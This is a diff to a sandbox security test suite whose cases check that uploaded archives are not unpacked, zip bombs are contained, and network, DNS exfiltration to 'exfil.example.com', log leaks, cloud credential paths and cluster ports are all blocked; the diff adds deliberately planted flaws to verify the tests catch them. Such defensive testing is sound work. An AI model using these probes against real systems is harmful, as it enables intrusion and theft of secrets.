@@ -2,6 +2,7 @@
 // Rows 11, 36, 37, 41, 44, 45: what archives, clusters, clouds and container engines would give away, and secrets.
 
 import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
 import * as zlib from 'node:zlib';
 import type { Case } from '../case.ts';
 
@@ -34,7 +35,7 @@ const PATTERNS = '(rb"[H]OSTILE_SECRE[T]=", rb"[h]ostile-canar[y]", rb"[S]ANDBOX
 
 export const hostCases: Case[] = [
 	{
-		id: '11a', attack: 'an archive with paths out of the folder, links and devices, uploaded', must: 'it stays one file; nothing is unpacked', held: 0, code: `print(sorted(os.listdir(".")))`,
+		id: '11a', planted: { what: 'the server unpacks it', by: async (_r, o) => void (await o.session.ok('open("inside.txt", "w").close()', o.id)) }, attack: 'an archive with paths out of the folder, links and devices, uploaded', must: 'it stays one file; nothing is unpacked', held: 0, code: `print(sorted(os.listdir(".")))`,
 		before: async (o) => {
 			await o.session.upload('trap.tar', trapArchive, o.id);
 		},
@@ -62,7 +63,7 @@ holds("/etc/passwd is as before", open("/etc/passwd").read() != "x")
 holds("no device", not os.path.exists("deep/er/disk"))`,
 	},
 	{
-		id: '11c', attack: 'a bomb of zeros in a small archive', must: 'the limit of the workspace holds', needs: ['disk'], held: 1,
+		id: '11c', without: { walls: ['disk', 'memory'] }, attack: 'a bomb of zeros in a small archive', must: 'the limit of the workspace holds', needs: ['disk'], held: 1,
 		before: async (o) => {
 			await o.session.upload('bomb.gz', zlib.gzipSync(Buffer.alloc(200 << 20), { level: 9 }), o.id);
 		},
@@ -77,7 +78,7 @@ except OSError as e:
 os.unlink("big")`,
 	},
 	{
-		id: '36b', attack: 'find another interface, route or neighbour', must: 'loopback alone', held: 6,
+		id: '36b', without: { walls: ['net'] }, attack: 'find another interface, route or neighbour', must: 'loopback alone', held: 6,
 		code: `
 import socket
 holds("one interface", [n for _, n in socket.if_nameindex()] == ["lo"] if hasattr(socket, "if_nameindex") and os.path.exists("/sys/class/net") else True)
@@ -90,7 +91,7 @@ for addr in ("fe80::1", "ff02::1", "fd00::1", "::ffff:10.0.0.1", "64:ff9b::a00:1
     refused("udp " + addr, lambda: s.sendto(b"x", (addr, 9, 0, 1 if addr[0] == "f" and addr[1] in "ef" else 0)))`,
 	},
 	{
-		id: '37b', attack: 'carry a secret out in names that are looked up', must: 'no resolver is asked', held: 4,
+		id: '37b', without: { walls: ['net'] }, attack: 'carry a secret out in names that are looked up', must: 'no resolver is asked', held: 4,
 		code: `
 import socket, subprocess
 for name in ("c2VjcmV0.exfil.example.com", "a" * 63 + ".example.net"):
@@ -121,7 +122,7 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
 holds("no trace", not found, found[:3])`,
 	},
 	{
-		id: '41b', attack: "get a secret into the server's log", must: 'neither code nor output is logged', held: 0,
+		id: '41b', planted: { what: 'the log holds what was printed', by: (r, o) => fs.appendFileSync(o.session.log, r.stdout) }, attack: "get a secret into the server's log", must: 'neither code nor output is logged', held: 0,
 		code: `
 import base64
 print(base64.b64decode("c2VjcmV0LW9mLXRoZS1ydW4=").decode())
@@ -141,7 +142,7 @@ for p in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets",
 holds("no variable", not [k for k in os.environ if k.startswith(("KUBERNETES", "AWS_", "AZURE_", "GOOGLE_", "GITHUB_", "DOCKER", "NPM_", "HTTP_", "HTTPS_"))], list(os.environ))`,
 	},
 	{
-		id: '44b', attack: 'the interfaces of a node and its cluster', must: 'nobody listens', held: 7,
+		id: '44b', without: { walls: ['net'] }, attack: 'the interfaces of a node and its cluster', must: 'nobody listens', held: 7,
 		code: `
 import socket
 for port in (443, 2375, 2376, 2379, 6443, 10250, 10255):
